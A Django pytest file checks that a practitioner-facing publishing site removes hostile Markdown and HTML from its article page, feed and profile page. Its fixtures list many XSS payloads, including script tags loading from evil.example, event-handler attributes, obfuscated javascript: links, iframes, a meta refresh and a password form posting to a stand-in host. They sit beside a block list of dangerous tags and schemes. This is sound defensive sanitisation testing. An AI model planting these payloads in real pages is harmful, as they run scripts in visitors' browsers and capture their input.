"""Whatever a practitioner types, the public site shows visitors only words and safe markup.

The hostile text goes the whole way a real article goes: saved through the
practice area's action, published, then read by a signed-out visitor on
the article's page, in the feed, and (typed into a profile's approach) on
the practitioner's page. Each page is parsed and read element by element:
what the layout itself brings (its one script, its quick exit form, the
JSON-LD) is known, and nothing the practitioner wrote adds to it.
"""

from __future__ import annotations

import json
import re
import xml.etree.ElementTree as ET

import pytest
from bs4 import Tag
from django.templatetags.static import static
from django.urls import reverse

from reclaim.core.markdown import ALLOWED_ATTRIBUTES, ALLOWED_TAGS
from reclaim.practice.actions.articles import do_publish_article, do_save_article
from reclaim.practice.actions.profiles import do_save_profile
from reclaim.testing import html

pytestmark = pytest.mark.django_db

# Markdown and raw HTML that try to run a script, load something from
# elsewhere, move the visitor on, or catch what they type.
HOSTILE = "\n\n".join(
    [
        "A first ordinary paragraph, so the page has words.",
        '<script>alert("owned")</script>',
        "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
        '<img src=x onerror="steal()">',
        '<b onclick="steal()" onmouseover="steal()">bold</b>',
        '<a href="javascript:steal()">raw link</a>',
        "[plain trap](javascript:steal())",
        "[shouting](JaVaScRiPt:steal())",
        "[hex](jav&#x61;script:steal())",
        "[decimal](&#106;avascript:steal())",
        "[tabbed](java\tscript:steal())",
        "[padded]( javascript:steal())",
        '<a href="&#x6A;avascript:steal()">entity link</a>',
        '<a href="java&#10;script:steal()">newline link</a>',
        "<a href='vbscript:msgbox(1)'>vb</a>",
        '<svg onload="steal()"><script>steal()</script></svg>',
        '<svg><a xlink:href="javascript:steal()"><text>svg link</text></a></svg>',
        '<iframe src="https://evil.example/"></iframe>',
        '<iframe srcdoc="<script>steal()</script>"></iframe>',
        '<object data="https://evil.example/x.swf"></object>',
        '<embed src="https://evil.example/x.swf">',
        "[data page](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
        "![data picture](data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=)",
        '<img src="data:image/png;base64,iVBORw0KGgo=">',
        "![a pixel](https://tracker.example/pixel.png)",
        '<p style="background:url(https://tracker.example/p.png)">styled</p>',
        "<style>body{background:url(https://tracker.example/p.png)}</style>",
        '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
        '<base href="https://evil.example/">',
        '<link rel="stylesheet" href="https://evil.example/x.css">',
        '<form action="https://evil.example/"><input name="password"><button>Go</button></form>',
        '<button formaction="javascript:steal()">press</button>',
        '<math><mi xlink:href="javascript:steal()">m</mi></math>',
        '<video poster="https://tracker.example/p.png" src="x.mp4"></video>',
        "A last ordinary paragraph.",
    ]
)
SHOUT = "Read this </script><script>steal()</script> now"

# Elements that run, load, embed, redirect or collect something.
NEVER = {
    "iframe",
    "frame",
    "frameset",
    "object",
    "embed",
    "applet",
    "svg",
    "math",
    "base",
    "video",
    "audio",
    "source",
    "img",
    "style",
    "input",
    "textarea",
    "select",
}
ADDRESS_ATTRIBUTES = ("href", "src", "action", "formaction", "xlink:href", "data", "poster")
BAD_SCHEMES = ("javascript:", "vbscript:", "data:", "file:")
# Browsers ignore these inside a scheme, so "java\tscript:" is still javascript.
_IGNORED = re.compile(r"[\x00-\x20]")


def _check_whole_page(page: Tag) -> None:
    """What holds on every element of a public page, whoever wrote it."""
    for element in page.find_all(True):
        assert element.name not in NEVER, element
        for name, value in element.attrs.items():
            text = value if isinstance(value, str) else " ".join(value)
            assert not name.lower().startswith("on"), (element.name, name)
            assert name.lower() != "style", element
            if name.lower() in ADDRESS_ATTRIBUTES:
                # Words (a title in a meta tag) may hold anything; an address may not.
                assert "steal()" not in text, (element.name, name, text)
                assert not _IGNORED.sub("", text).lower().startswith(BAD_SCHEMES), (name, text)
    assert page.find("meta", attrs={"http-equiv": True}) is None

    # The layout's own script, and JSON-LD that is still one whole JSON value.
    for script in page.find_all("script"):
        if script.get("src"):
            assert script["src"] == static("core/privacy.js")
        else:
            assert script.get("type") == "application/ld+json"
            json.loads(script.string or "")
    # The quick exit, and nothing else, posts anywhere.
    assert [form.get("action") for form in page.find_all("form")] == [reverse("core:exit")]
    stylesheets = [link["href"] for link in page.find_all("link", rel="stylesheet")]
    assert stylesheets == [static("core/reclaim.css")]


def _check_written_part(part: Tag) -> None:
    """What the practitioner wrote holds only the few plain tags the Markdown allows."""
    for element in part.find_all(True):
        assert element.name in ALLOWED_TAGS, element
        assert set(element.attrs) <= ALLOWED_ATTRIBUTES.get(element.name, set()), element
        if element.name == "a":
            href = _IGNORED.sub("", str(element.get("href") or "")).lower()
            assert href.startswith(("http:", "https:", "mailto:", "/", "#")) or ":" not in href


@pytest.fixture
def article(practitioner):
    saved = do_save_article(
        practitioner,
        None,
        title=SHOUT,
        slug="hostile",
        summary=f'{SHOUT} <img src=x onerror="steal()"> <a href="javascript:steal()">x</a>',
        body=HOSTILE,
        categories=[],
    )
    return do_publish_article(practitioner, saved)


def test_the_public_article_page_holds_none_of_the_hostile_markup(client, article):
    response = client.get(reverse("site:article", args=["hostile"]))
    assert response.status_code == 200
    page = html.page(response)
    _check_whole_page(page)
    body = html.one(page, ".article-body")
    _check_written_part(body)
    # The visitor still reads the ordinary words on either side.
    assert "A first ordinary paragraph" in html.words(body)
    assert "A last ordinary paragraph." in html.words(body)


def test_the_title_reaches_the_page_head_and_json_ld_as_plain_words(client, article):
    page = html.page(client.get(reverse("site:article", args=["hostile"])))
    assert html.one(page, "h1").get_text() == SHOUT
    assert page.find("meta", property="og:title")["content"] == SHOUT
    ld = json.loads(html.one(page, "script[type='application/ld+json']").string)
    assert ld["headline"] == SHOUT


def test_the_feed_entry_carries_the_summary_as_words_only(client, article):
    response = client.get(reverse("site:feed"))
    atom = "{http://www.w3.org/2005/Atom}"
    entry = ET.fromstring(response.content).find(f"{atom}entry")
    assert entry is not None
    for part in entry.iter():
        if part.get("type") == "html":
            # A feed reader reads this element's text as HTML: it must make no element at all.
            made = html.page(part.text or "")
            assert made.find_all(True) == [], (part.tag, part.text)
            assert "steal()" in made.get_text()
    assert entry.find(f"{atom}title").text == SHOUT


def test_the_profile_page_holds_none_of_the_hostile_markup_in_the_approach(client, practitioner):
    profile = do_save_profile(
        practitioner,
        name="Sam Rivera",
        slug="sam-rivera",
        credentials=SHOUT,
        approach=HOSTILE,
        areas=f"Trust\n{SHOUT}",
        listed=True,
    )
    response = client.get(reverse("site:practitioner", args=[profile.slug]))
    assert response.status_code == 200
    page = html.page(response)
    _check_whole_page(page)
    approach = html.section(page, "How I work")
    assert "A first ordinary paragraph" in html.words(approach)
    # The section's own heading aside, all in it is what the practitioner wrote.
    approach.find("h2").decompose()
    _check_written_part(approach)
    ld = json.loads(html.one(page, "script[type='application/ld+json']").string)
    assert ld["jobTitle"] == SHOUT
    assert SHOUT in ld["knowsAbout"]
